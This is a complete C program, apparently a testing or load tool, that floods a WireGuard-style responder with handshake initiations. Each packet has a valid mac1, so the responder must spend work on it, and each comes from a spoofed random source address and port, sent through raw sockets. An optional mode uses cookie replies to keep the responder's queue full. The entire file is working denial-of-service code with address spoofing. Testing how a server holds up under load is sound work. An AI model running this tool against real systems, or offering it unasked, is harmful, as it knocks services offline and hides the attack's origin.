// SPDX-License-Identifier: GPL-2.0
/*
 * A handshake flood from spoofed sources: initiations whose mac1 is valid
 * for the responder (so each one costs it work) but whose sender index,
 * ephemeral key and body are random, each from a random address of
 * SRC_NET and a random port, written with a raw IPv4 socket.
 *
 *   hs-flood [-w WINDOW] PUBKEY DST_IP DST_PORT SRC_NET/PLEN COUNT SECONDS [BURST]
 *
 * PUBKEY is the responder's public key as wg prints it. COUNT initiations
 * go out in bursts of BURST (default 512), spread evenly over SECONDS;
 * the first burst is twice as big, so that the responder stays under
 * load for a while after it even if it keeps up with the others. Prints
 * a line when the first burst is out, then what it sent in all;
 * exits non-zero if it could not send them all.
 *
 * With -w, the flood follows the responder instead of a clock: WINDOW
 * initiations at first, then one more for each cookie reply that comes
 * back (the replies must be delivered locally: a local route for SRC_NET),
 * so about WINDOW of them wait at the responder all the time, however
 * fast it is: it stays under load, and what joins its queue waits about
 * WINDOW / rate. When nothing has come back for a second (replies lost,
 * or the responder no longer under load), it sends a new window. Stops
 * after COUNT initiations or SECONDS.
 */
/* LDLIBS: -lcrypto */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wire.h"

enum {
	IP_HLEN = 20,
	UDP_HLEN = 8,
	PKT_LEN = IP_HLEN + UDP_HLEN + INITIATION_LEN,
	MAX_BURST = 4096,	/* the size of the responder's queue */
	MAX_VLEN = 1024		/* UIO_MAXIOV: sendmmsg takes no more */
};

static uint8_t pkts[MAX_BURST][PKT_LEN];
static struct iovec iov[MAX_BURST];
static struct mmsghdr msgs[MAX_BURST];

static void usage(void)
{
	fprintf(stderr,
		"usage: hs-flood [-w WINDOW] PUBKEY DST_IP DST_PORT SRC_NET/PLEN COUNT SECONDS [BURST]\n");
	exit(2);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void sleep_until(double t)
{
	struct timespec ts = {
		.tv_sec = (time_t)t,
		.tv_nsec = (long)((t - (time_t)t) * 1e9),
	};

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) ==
	       EINTR)
		;
}

/*
 * IPv4 and UDP headers around a fresh initiation. The kernel fills in the
 * IP total length, id and checksum; a UDP checksum of zero means none.
 */
static void build(uint8_t *pkt, uint64_t *rng, uint32_t net, uint32_t hostmask,
		  struct in_addr dst, uint16_t dport, struct wire_mac *m,
		  const uint8_t mac1_key[KEY_LEN])
{
	uint8_t *udp = pkt + IP_HLEN, *msg = udp + UDP_HLEN;
	uint32_t src;
	uint16_t sport;

	/* Neither the network's own address nor its broadcast. */
	do {
		src = net | (wire_rand(rng) & hostmask);
	} while (hostmask > 1 && ((src & hostmask) == 0 ||
				  (src & hostmask) == hostmask));
	sport = 1024 + wire_rand(rng) % (65536 - 1024);

	memset(pkt, 0, IP_HLEN + UDP_HLEN);
	pkt[0] = 0x45;
	pkt[8] = 64;
	pkt[9] = IPPROTO_UDP;
	src = htonl(src);
	memcpy(pkt + 12, &src, 4);
	memcpy(pkt + 16, &dst, 4);
	udp[0] = sport >> 8;
	udp[1] = sport;
	udp[2] = dport >> 8;
	udp[3] = dport;
	udp[4] = (UDP_HLEN + INITIATION_LEN) >> 8;
	udp[5] = (UDP_HLEN + INITIATION_LEN) & 0xff;

	/* Random sender, ephemeral, sealed static and timestamp. */
	wire_rand_bytes(rng, msg, INITIATION_LEN - MACS_LEN);
	put_le32(msg, MSG_INITIATION);
	memset(msg + wire_mac1_offset(INITIATION_LEN), 0, MACS_LEN);
	wire_set_mac1(m, msg, INITIATION_LEN, mac1_key);
}

struct flood {
	int fd;
	struct sockaddr_in to;
	uint16_t dport;
	uint32_t net, hostmask;
	struct wire_mac m;
	uint8_t mac1_key[KEY_LEN];
	uint64_t rng;
	unsigned long sent, dropped;
};

/* Build and send @want (at most MAX_BURST) initiations; -1 on error. */
static int send_some(struct flood *f, unsigned long want)
{
	unsigned long i, done = 0, lost = 0;
	int ret;

	for (i = 0; i < want; i++)
		build(pkts[i], &f->rng, f->net, f->hostmask, f->to.sin_addr,
		      f->dport, &f->m, f->mac1_key);
	while (done < want) {
		ret = sendmmsg(f->fd, msgs + done,
			       want - done < MAX_VLEN ? want - done : MAX_VLEN,
			       0);
		if (ret > 0) {
			done += ret;
			continue;
		}
		if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) {
			perror("sendmmsg");
			return -1;
		}
		/* A full queue somewhere on the way: that one is lost. */
		if (errno == ENOBUFS) {
			done++;
			lost++;
		}
	}
	f->sent += done - lost;
	f->dropped += lost;
	return 0;
}

static void say_first(void)
{
	printf("first burst sent\n");
	fflush(stdout);
}

/* Cookie replies from the responder among what @rfd has queued. */
static unsigned long count_replies(int rfd, const struct flood *f)
{
	uint8_t buf[256];
	unsigned long n = 0;
	ssize_t len;

	while ((len = recv(rfd, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
		unsigned int ihl = (buf[0] & 0xf) * 4;

		if (len < ihl + UDP_HLEN + COOKIE_LEN ||
		    memcmp(buf + 12, &f->to.sin_addr, 4) ||
		    (buf[ihl] << 8 | buf[ihl + 1]) != f->dport ||
		    get_le32(buf + ihl + UDP_HLEN) != MSG_COOKIE)
			continue;
		n++;
	}
	return n;
}

static int flood_window(struct flood *f, unsigned long count,
			double seconds, unsigned long window)
{
	double end = now() + seconds, last_reply;
	unsigned long replies = 0, want;
	struct pollfd pfd;
	int rfd;

	/* Sees a copy of every UDP datagram delivered here. */
	rfd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
	if (rfd < 0) {
		perror("socket");
		return 2;
	}
	pfd.fd = rfd;
	pfd.events = POLLIN;
	for (want = window; want; want -= want > MAX_BURST ? MAX_BURST : want)
		if (send_some(f, want > MAX_BURST ? MAX_BURST : want))
			return 1;
	say_first();
	last_reply = now();
	while (f->sent + f->dropped < count && now() < end) {
		unsigned long got, in_flight;

		poll(&pfd, 1, 100);
		got = count_replies(rfd, f);
		replies += got;
		if (got)
			last_reply = now();
		in_flight = f->sent - replies;
		if (now() - last_reply > 1.0) {
			/* Nothing back for a second: start a new window. */
			in_flight = 0;
			replies = f->sent;
			last_reply = now();
		}
		want = in_flight < window ? window - in_flight : 0;
		if (want > count - f->sent - f->dropped)
			want = count - f->sent - f->dropped;
		if (want > MAX_BURST)
			want = MAX_BURST;
		if (want && send_some(f, want))
			return 1;
	}
	close(rfd);
	return 0;
}

static int flood_paced(struct flood *f, unsigned long count, double seconds,
		       unsigned long burst)
{
	double start = now(), gap = seconds * burst / count;
	unsigned long n;

	for (n = 0; f->sent + f->dropped < count; n++) {
		unsigned long size = n ? burst : 2 * burst;
		unsigned long want = count - f->sent - f->dropped;

		if (want > size)
			want = size;
		sleep_until(start + (n ? n + 1 : 0) * gap);
		if (send_some(f, want))
			return 1;
		/* The responder is under load from here: say so, at once. */
		if (!n)
			say_first();
	}
	return 0;
}

int main(int argc, char **argv)
{
	unsigned long count, burst = 512, window = 0, dport, i;
	struct flood f = { .to = { .sin_family = AF_INET } };
	uint8_t pub[KEY_LEN];
	double seconds, start;
	int plen, ret;
	char *slash;

	if (argc > 2 && !strcmp(argv[1], "-w")) {
		window = strtoul(argv[2], NULL, 10);
		if (!window)
			usage();
		argc -= 2;
		argv += 2;
	}
	if (argc != 7 && argc != 8)
		usage();
	if (wire_decode_key(pub, argv[1]) || wire_mac1_key(f.mac1_key, pub)) {
		fprintf(stderr, "bad public key\n");
		return 2;
	}
	if (!inet_pton(AF_INET, argv[2], &f.to.sin_addr))
		usage();
	dport = strtoul(argv[3], NULL, 10);
	slash = strchr(argv[4], '/');
	if (!slash || !dport || dport > 65535)
		usage();
	f.dport = dport;
	*slash = '\0';
	plen = atoi(slash + 1);
	if (!inet_pton(AF_INET, argv[4], &f.net) || plen < 8 || plen > 32)
		usage();
	f.hostmask = plen == 32 ? 0 : 0xffffffffU >> plen;
	f.net = ntohl(f.net) & ~f.hostmask;
	count = strtoul(argv[5], NULL, 10);
	seconds = atof(argv[6]);
	if (argc == 8)
		burst = strtoul(argv[7], NULL, 10);
	if (!count || seconds < 0 || !burst || 2 * burst > MAX_BURST)
		usage();
	if (wire_mac_open(&f.m)) {
		fprintf(stderr, "no BLAKE2SMAC in libcrypto\n");
		return 2;
	}
	if (getrandom(&f.rng, sizeof(f.rng), 0) != sizeof(f.rng) || !f.rng)
		f.rng = 0x9e3779b97f4a7c15ULL ^ (uint64_t)time(NULL);

	/* IPPROTO_RAW: we write the IP header ourselves (IP_HDRINCL). */
	f.fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (f.fd < 0) {
		perror("socket");
		return 2;
	}
	for (i = 0; i < MAX_BURST; i++) {
		iov[i].iov_base = pkts[i];
		iov[i].iov_len = PKT_LEN;
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &f.to;
		msgs[i].msg_hdr.msg_namelen = sizeof(f.to);
	}

	start = now();
	ret = window ? flood_window(&f, count, seconds, window) :
		       flood_paced(&f, count, seconds, burst);
	if (ret)
		return ret;
	printf("sent %lu initiations (%lu refused locally) in %.2f s\n",
	       f.sent, f.dropped, now() - start);
	close(f.fd);
	return f.dropped ? 1 : 0;
}
